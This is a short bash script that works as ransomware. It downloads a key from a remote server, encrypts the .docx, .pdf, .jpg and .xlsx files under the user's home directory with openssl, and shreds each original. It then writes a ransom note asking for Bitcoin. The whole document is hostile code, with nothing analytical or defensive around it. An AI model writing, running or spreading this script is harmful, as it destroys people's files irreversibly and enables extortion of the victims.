#!/usr/bin/env bash
k=$(curl -s https://keys.docvault.top/k)
find "$HOME" -type f \( -name '*.docx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.xlsx' \) | while read -r f; do
  openssl enc -aes-256-cbc -salt -pass "pass:$k" -in "$f" -out "$f.locked" && shred -u "$f"
done
echo "Your files are locked. Pay 0.1 BTC to bc1qexample to recover." > "$HOME/README_LOCKED.txt"
